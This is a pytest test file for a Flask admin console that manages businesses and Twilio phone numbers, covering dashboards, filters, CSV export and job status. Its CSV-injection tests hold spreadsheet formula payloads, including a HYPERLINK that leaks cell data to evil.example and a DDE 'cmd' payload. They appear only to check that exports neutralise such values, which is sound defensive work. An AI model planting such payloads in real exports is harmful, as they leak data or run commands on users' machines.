"""What each console page shows: dashboard counts, formatted numbers, badges, filters, export, live status."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pybreaker
import pytest

from harness.web import filter_arg
from tests.admin.helpers import page_text
from tests.factories import make_business, make_number
from webapp.admin.base import SecureModelView
from webapp.admin.views import PhoneNumberView
from webapp.extensions import db
from webapp.models import Activity, ActivityKind, ActivityStatus, BusinessStatus, Role, WebhookStatus
from webapp.models.base import utcnow
from webapp.twilio_client.breakers import OPERATIONS, breaker_name


def test_dashboard_shows_counts_backlog_queue_breakers_and_latest_activity(client, auth, app):
    for n in range(3):
        make_business(f"Waiting {n}")
    make_business("On trial", status=BusinessStatus.TRIAL)
    make_number(webhook_status=WebhookStatus.DRIFTED)
    db.session.add(
        Activity(kind=ActivityKind.WEBHOOK_CHECK, status=ActivityStatus.FAILED, error="Twilio down")
    )
    db.session.commit()
    auth.login(Role.OPERATOR)
    text = page_text(client.get("/admin/"))
    assert "Businesses by status" in text and "Numbers by webhook status" in text
    assert "Waiting 0" in text and "On trial" not in text.split('id="backlog"')[1].split("</ul>")[0]
    assert 'badge-pill badge-secondary">3<' in text
    assert "Jobs waiting" in text and "Live workers" in text
    assert "purchase_number" in text and "closed" in text
    assert "Twilio down" in text
    concurrency = " ".join(text.split('id="twilio-concurrency"')[1].split("</div>\n    </div>")[0].split())
    assert '<span class="h4">0</span> of a limit of <strong>20</strong>' in concurrency


def test_backlog_lists_twenty_and_gives_the_total(client, auth, app):
    for n in range(23):
        make_business(f"Waiting {n:02d}")
    auth.login(Role.VIEWER)
    text = page_text(client.get("/admin/"))
    assert "Showing the 20 oldest of 23." in text


def test_business_list_shows_number_badges_and_status(client, auth, app):
    number = make_number(
        make_business("Acme"),
        e164="+14155551234",
        capabilities={"voice": True, "sms": True, "mms": False, "fax": False},
        webhook_status=WebhookStatus.IN_SYNC,
    )
    auth.login(Role.VIEWER)
    text = page_text(client.get("/admin/business/"))
    assert f'href="/admin/phonenumber/details/?id={number.id}" title="+14155551234"' in text
    assert "(415) 555-1234" in text
    assert 'title="Voice: yes">Voice<' in text and 'title="Fax: no"><s>Fax</s>' in text
    assert ">In sync<" in text and ">Active<" in text


def test_number_details_show_the_e164_and_the_webhook_times(client, auth, app):
    number = make_number(
        e164="+14155551234", webhook_error="Twilio answered 404.", webhook_checked_at=utcnow()
    )
    auth.login(Role.VIEWER)
    text = page_text(client.get(f"/admin/phonenumber/details/?id={number.id}"))
    assert "+14155551234" in text and "(415) 555-1234" in text
    assert "Twilio answered 404." in text and "Last checked" in text and "UTC" in text


def test_numbers_list_shows_each_number_last_call_and_sorts_by_it(client, auth, app):
    called = make_number(
        e164="+14155551200",
        last_call_at=utcnow() - timedelta(days=2),
        last_call_status="completed",
        last_call_duration=42,
    )
    recent = make_number(
        e164="+14155551201", last_call_at=utcnow() - timedelta(hours=3), last_call_status="busy"
    )
    make_number(e164="+14155551202")
    auth.login(Role.VIEWER)
    text = page_text(client.get("/admin/phonenumber/"))
    assert "Last call" in text and "No call yet" in text
    assert ">2 days ago</time><br><small>Completed, 42 s</small>" in text
    assert ">3 hours ago</time><br><small>Busy</small>" in text
    column = PhoneNumberView.column_list.index("last_call_at")
    newest_first = page_text(client.get(f"/admin/phonenumber/?sort={column}&desc=1"))
    assert newest_first.index(recent.formatted) < newest_first.index(called.formatted)


def test_business_details_show_its_number_history_and_live_status(client, auth, app):
    business = make_business("Acme")
    failed = Activity(
        kind=ActivityKind.PROVISION, status=ActivityStatus.FAILED, business=business, error="No numbers left."
    )
    db.session.add(failed)
    db.session.commit()
    auth.login(Role.OPERATOR)
    text = page_text(client.get(f"/admin/business/details/?id={business.id}"))
    assert "No number yet" in text
    assert "No numbers left." in text
    assert 'data-action="retry"' in text
    assert f"/admin/activity/status/?id={failed.id}" in text


@pytest.mark.parametrize(
    ("endpoint", "name", "value", "found", "not_found"),
    [
        ("business", "Has number", "yes", "Numbered", "Waiting"),
        ("business", "Has number", "no", "Waiting", "Numbered"),
        ("business", "Number area code", "303", "Denver", "Numbered"),
        ("business", "Status", "trial", "Trial", "Waiting"),
        ("phonenumber", "Capability", "fax", "(303) 555-0100", "(415) 555-1234"),
        ("phonenumber", "Business status", "suspended", "(303) 555-0100", "(415) 555-1234"),
        ("phonenumber", "Webhook", "drifted", "(415) 555-1234", "(303) 555-0100"),
        ("phonenumber", "Area Code", "303", "(303) 555-0100", "(415) 555-1234"),
    ],
)
def test_filters(client, auth, app, endpoint, name, value, found, not_found):
    make_business("Waiting")
    make_business("Trial", status=BusinessStatus.TRIAL)
    make_number(make_business("Numbered"), e164="+14155551234", webhook_status=WebhookStatus.DRIFTED)
    make_number(
        make_business("Denver", status=BusinessStatus.SUSPENDED),
        e164="+13035550100",
        capabilities={"voice": True, "fax": True},
    )
    auth.login(Role.VIEWER)
    operation = (
        None if name in ("Has number", "Number area code", "Capability", "Business status") else "equals"
    )
    arg = filter_arg(app, endpoint, name, operation)
    response = client.get(f"/admin/{endpoint}/", query_string={arg: value})
    text = page_text(response)
    assert response.status_code == 200
    assert found in text and not_found not in text


def kinds_listed(page: str) -> list[str]:
    return re.findall(r'<td class="col-kind">\s*([^<]+?)\s*</td>', page)


def test_activity_filters_by_kind_status_and_date(client, auth, app):
    old = Activity(kind=ActivityKind.PROVISION, status=ActivityStatus.FAILED, error="old failure")
    old.created_at = utcnow() - timedelta(days=10)
    new = Activity(kind=ActivityKind.WEBHOOK_CHECK, status=ActivityStatus.SUCCEEDED, error=None)
    db.session.add_all([old, new])
    db.session.commit()
    auth.login(Role.VIEWER)
    by_status = page_text(
        client.get(
            "/admin/activity/", query_string={filter_arg(app, "activity", "Status", "equals"): "failed"}
        )
    )
    assert kinds_listed(by_status) == ["Provision"]
    by_kind = page_text(
        client.get(
            "/admin/activity/", query_string={filter_arg(app, "activity", "Kind", "equals"): "webhook_check"}
        )
    )
    assert kinds_listed(by_kind) == ["Webhook check"]
    since = (utcnow() - timedelta(days=1)).strftime("%Y-%m-%d %H:%M:%S")
    recent = page_text(
        client.get(
            "/admin/activity/", query_string={filter_arg(app, "activity", "Requested", "greater than"): since}
        )
    )
    assert kinds_listed(recent) == ["Webhook check"]


def test_csv_export_holds_plain_values(client, auth, app):
    make_number(make_business("Acme"), e164="+14155551234")
    auth.login(Role.VIEWER)
    response = client.get("/admin/business/export/csv/")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(page_text(response))))
    assert rows[0] == ["Name", "Status", "Contact e-mail", "Preferred Area Code", "Phone number (E.164)"]
    assert rows[1] == ["Acme", "active", "", "", "+14155551234"]
    numbers = list(csv.reader(io.StringIO(page_text(client.get("/admin/phonenumber/export/csv/")))))
    assert numbers[1][:2] == ["+14155551234", "Acme"] and "unknown" in numbers[1]


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A2&B2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "-1\t+1",
)
"""Cell text a spreadsheet would run as a formula (OWASP's CSV-injection examples)."""


def test_csv_exports_carry_no_spreadsheet_formula(client, auth, app):
    for formula in FORMULAS:
        make_business(formula)
    make_business("Plain = Bakery", contact_email="=cmd@example.com")
    make_number(
        make_business("Numbered"), e164="+14155551234", webhook_error='=HYPERLINK("http://evil.example/")'
    )
    auth.login(Role.VIEWER)

    rows = list(csv.reader(io.StringIO(page_text(client.get("/admin/business/export/csv/")))))
    by_name = {row[0]: row for row in rows[1:]}
    assert {"'" + formula for formula in FORMULAS} <= set(by_name)
    assert by_name["Plain = Bakery"][:3] == ["Plain = Bakery", "active", "'=cmd@example.com"]
    numbers = list(csv.reader(io.StringIO(page_text(client.get("/admin/phonenumber/export/csv/")))))
    assert numbers[1][0] == "+14155551234"  # a signed number alone is no formula: E.164 stays as it is
    assert numbers[1][numbers[0].index("Last error")] == '\'=HYPERLINK("http://evil.example/")'


def test_every_export_goes_through_the_one_formula_guard(app):
    exporting = [view for view in app.extensions["admin"][0]._views if getattr(view, "can_export", False)]
    assert {view.endpoint for view in exporting} >= {"business", "phonenumber", "access_log"}
    for view in exporting:
        assert type(view).get_export_value is SecureModelView.get_export_value, view.endpoint


def test_csv_export_stops_at_export_max_rows(client, auth, app, monkeypatch):
    from harness.web import admin_view

    for n in range(4):
        make_business(f"B{n}")
    monkeypatch.setattr(admin_view(app, "business"), "export_max_rows", 3)
    auth.login(Role.VIEWER)
    rows = list(csv.reader(io.StringIO(page_text(client.get("/admin/business/export/csv/")))))
    assert len(rows) == 1 + 3


def test_status_json_reports_the_job_and_its_number(client, auth, app):
    number = make_number(make_business("Acme"), e164="+14155551234")
    activity = Activity(
        kind=ActivityKind.PROVISION,
        status=ActivityStatus.SUCCEEDED,
        business=number.business,
        phone_number=number,
        attempts=1,
        progress_done=1,
        progress_total=1,
    )
    db.session.add(activity)
    db.session.commit()
    auth.login(Role.VIEWER)
    state = client.get(f"/admin/activity/status/?id={activity.id}").get_json()
    assert state["status"] == "succeeded" and state["in_flight"] is False
    assert state["numbers"] == ["(415) 555-1234"]
    assert client.get("/admin/activity/status/?id=not-a-uuid").status_code == 404


def test_each_number_links_to_its_page_in_the_twilio_console_except_on_the_sandbox(client, auth, app):
    number = make_number()
    console = f'href="https://console.twilio.com/us1/develop/phone-numbers/manage/incoming/{number.twilio_sid}/configure"'
    pages = ("/admin/phonenumber/", f"/admin/phonenumber/details/?id={number.id}")
    auth.login(Role.VIEWER)

    assert app.config["TWILIO_SANDBOX"]
    on_sandbox = [client.get(url).text for url in pages]
    app.config["TWILIO_SANDBOX"] = False
    on_twilio = [client.get(url).text for url in pages]

    assert all(console not in page and f'title="{number.twilio_sid}"' in page for page in on_sandbox)
    assert all(console in page for page in on_twilio)


def test_a_business_name_in_the_list_links_to_its_page(client, auth, app):
    business = make_business("Acme Plumbing")
    auth.login(Role.VIEWER)

    listed = client.get("/admin/business/").text
    own_page = client.get(f"/admin/business/details/?id={business.id}").text

    assert f'<a href="/admin/business/details/?id={business.id}">Acme Plumbing</a>' in listed
    assert f'<a href="/admin/business/details/?id={business.id}">Acme Plumbing</a>' not in own_page


def test_the_breakers_fold_into_one_line_unless_one_is_not_closed(client, auth, app, redis_client):
    auth.login(Role.VIEWER)
    folded = client.get("/admin/").text
    buying = pybreaker.CircuitRedisStorage(
        pybreaker.STATE_CLOSED, redis_client, namespace=breaker_name("purchase_number")
    )
    buying.state = pybreaker.STATE_OPEN
    unfolded = client.get("/admin/").text

    assert '<details class="card mb-3" id="breakers">' in folded
    assert f"All {len(OPERATIONS)} breakers closed" in folded
    assert '<details class="card mb-3" id="breakers" open>' in unfolded
    assert f"1 of {len(OPERATIONS)} not closed" in unfolded


@pytest.mark.parametrize(("ended_ago", "shown"), [(None, True), (2, True), (15, False)])
def test_the_numbers_page_shows_a_bulk_job_while_it_runs_and_briefly_after_with_its_age(
    client, auth, app, ended_ago, shown
):
    now = utcnow()
    job = Activity(
        kind=ActivityKind.RESYNC_DRIFTED,
        status=ActivityStatus.RUNNING if ended_ago is None else ActivityStatus.SUCCEEDED,
        created_at=now - timedelta(minutes=20),
        finished_at=None if ended_ago is None else now - timedelta(minutes=ended_ago),
    )
    db.session.add(job)
    db.session.commit()
    auth.login(Role.VIEWER)
    text = page_text(client.get("/admin/phonenumber/"))
    assert (f'data-follow-activity="{job.id}"' in text) is shown
    assert ("ended <time" in text and f">{ended_ago} minutes ago<" in text) is (ended_ago == 2)
